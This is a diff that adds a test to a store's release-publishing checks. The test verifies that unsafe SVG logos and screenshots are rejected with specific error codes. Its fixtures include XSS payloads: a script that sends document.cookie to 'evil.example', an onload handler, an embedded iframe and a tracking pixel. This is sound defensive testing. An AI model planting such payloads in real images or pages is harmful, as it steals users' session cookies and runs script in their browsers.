@@ -207,6 +207,45 @@ describe('publish-time checks of a release', () => {
     expect(check.ok).toBe(true);
   });
 
+  it('refuse SVG logos and screenshots that could run script or load something when shown', async () => {
+    const svg = (inside: string, attributes = '') =>
+      `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"${attributes}>${inside}</svg>`;
+    const check = await checkRelease(
+      await upload({
+        metadata: { logo: 'logo.svg', screenshots: ['a.svg', 'b.svg', 'c.svg'] },
+        files: {
+          'logo.svg': svg('<script>fetch("https://evil.example/" + document.cookie)</script>'),
+          'a.svg': svg('<rect width="10" height="10"/>', ' onload="alert(1)"'),
+          'b.svg': svg(
+            '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://x.example"/></foreignObject>',
+          ),
+          'c.svg': svg('<image href="https://tracker.example/pixel.png" width="1" height="1"/>'),
+        },
+      }),
+    );
+    expect(check).toEqual({
+      ok: false,
+      problems: [
+        {
+          code: 'LOGO_UNSAFE_SVG',
+          params: { path: 'logo.svg', rule: 'store.svg.element', detail: 'script' },
+        },
+        {
+          code: 'SCREENSHOT_UNSAFE_SVG',
+          params: { path: 'a.svg', rule: 'store.svg.eventHandler', detail: 'onload' },
+        },
+        {
+          code: 'SCREENSHOT_UNSAFE_SVG',
+          params: { path: 'b.svg', rule: 'store.svg.element', detail: 'foreignObject' },
+        },
+        {
+          code: 'SCREENSHOT_UNSAFE_SVG',
+          params: { path: 'c.svg', rule: 'store.svg.element', detail: 'image' },
+        },
+      ],
+    });
+  });
+
   it('refuse a live API key in a bundled .js with its file and line, never the key', async () => {
     const { file, release } = await upload({
       files: { 'dist/pay.js': `import x from "./x.js";\n\nconst stripe = new Stripe("${liveKey}");\n` },
